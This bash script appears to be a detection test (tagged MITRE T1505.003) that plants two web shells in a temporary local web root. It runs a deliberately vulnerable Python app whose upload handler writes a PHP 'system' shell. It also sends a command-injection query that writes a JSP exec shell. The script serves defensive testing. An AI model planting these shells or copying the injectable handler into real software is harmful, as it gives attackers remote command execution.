#!/bin/bash
# desc: web shells left in a web root: written by the server itself (an upload handler of a server run as php-fpm) and by a shell the server was made to run (command injection into a server run as httpd)
# mitre: T1505.003
# expect: web_shell_written*2
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

# A web root of our own under /var/www (made, and removed with what we made).
[ -d /var/www ] || undo "rmdir /var/www 2>/dev/null || true"
root=/var/www/$(tmpname)
mkdir -p "$root"
undo "rm -rf '$root'"

# A tiny application with two holes, run under the names of real servers
# (a server's process name is its program's name).
cat >app.py <<'PY'
import http.server, subprocess, sys, urllib.parse
ROOT = sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
        if "upload" in q:  # saves what it is sent under the name it is given
            with open(ROOT + "/" + q["upload"][0], "w") as f:
                f.write("<?php system($_GET['c']); ?>\n")
        else:              # pings the host it is given, through a shell
            subprocess.run("echo ping " + q["host"][0], shell=True, capture_output=True)
        self.send_response(200); self.end_headers()
    def log_message(self, *a): pass
http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H).handle_request()
PY
serve() { # name, then the query
	local port
	port=$(free_port)
	ln -sf /usr/bin/python3 "./$1"
	"./$1" app.py "$port" "$root" &
	wait_listen 127.0.0.1 "$port"
	curl -fsS "http://127.0.0.1:$port/?$2" >/dev/null
	wait
}
serve php-fpm 'upload=avatar.php'
serve httpd "host=x;printf+%s+'<%25Runtime.getRuntime().exec(request.getParameter(\"c\"));%25>'>$root/status.jsp"
[ -s "$root/avatar.php" ] && [ -s "$root/status.jsp" ]
